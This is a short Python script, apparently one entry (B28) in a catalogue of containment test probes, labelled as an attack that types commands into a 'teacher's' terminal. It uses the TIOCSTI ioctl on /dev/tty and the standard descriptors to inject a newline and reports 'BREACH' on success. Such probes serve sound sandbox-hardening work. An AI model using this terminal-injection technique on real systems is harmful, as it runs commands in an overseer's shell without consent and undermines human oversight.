# attack: types commands into the teacher's terminal
# catalogue: B28
# %%
import fcntl
import os
import termios

for name in ("/dev/tty", 0, 1, 2):
    try:
        descriptor = os.open(name, os.O_RDWR) if isinstance(name, str) else name
        fcntl.ioctl(descriptor, termios.TIOCSTI, b"\n")
        print("BREACH terminal", name)
    except OSError as error:
        print(type(error).__name__)
